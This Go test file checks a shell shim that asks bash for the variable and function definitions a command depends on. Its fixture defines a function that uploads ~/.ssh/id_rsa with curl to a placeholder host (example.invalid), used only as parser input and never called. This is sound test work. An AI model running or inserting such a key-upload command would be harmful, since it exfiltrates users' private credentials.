package shim

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
)

func TestShellQuery(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{"echo hi", "declare -f -- echo 2>/dev/null"},
		{`curl -T "$X" ${URL}/up`, "declare -p -- X URL 2>/dev/null; declare -f -- curl 2>/dev/null"},
		{`f; g $1 $@ $? ${!p}`, "declare -p -- p 2>/dev/null; declare -f -- f g 2>/dev/null"},
		{"cd /tmp", "declare -f -- cd 2>/dev/null"},
		{"if then", ""}, // does not parse: nothing to ask
		{`$CMD arg`, "declare -p -- CMD 2>/dev/null"},
	} {
		if got := shellQuery(tc.text); got != tc.want {
			t.Errorf("shellQuery(%q) = %q, want %q", tc.text, got, tc.want)
		}
	}
}

// TestShellStateFromBash: what a real bash answers is read back as it
// holds it — quotes, newlines and dollars included; arrays and unset
// names are left out; functions come back whole.
func TestShellStateFromBash(t *testing.T) {
	script := `X=~/.ssh/id_rsa; Y='a "q" $b` + "\n" + `c'; declare -a A=(1 2); declare Z; export E=exp
f() { curl -T "$X" https://example.invalid; }
` + shellQuery(`f "$X" "$Y" "$A" "$Z" "$E" "$NOPE"`)
	out, err := exec.Command("bash", "-c", script).Output()
	if err != nil {
		t.Fatal(err)
	}
	vars, funcs := shellState(string(out))
	home, _ := exec.Command("bash", "-c", "echo -n ~").Output()
	want := []string{"X=" + string(home) + "/.ssh/id_rsa", "Y=a \"q\" $b\nc", "E=exp"}
	if !slices.Equal(vars, want) {
		t.Errorf("vars = %q, want %q (from %q)", vars, want, out)
	}
	if !strings.Contains(funcs, "f() {") || !strings.Contains(funcs, `curl -T "$X"`) {
		t.Errorf("funcs = %q", funcs)
	}
}
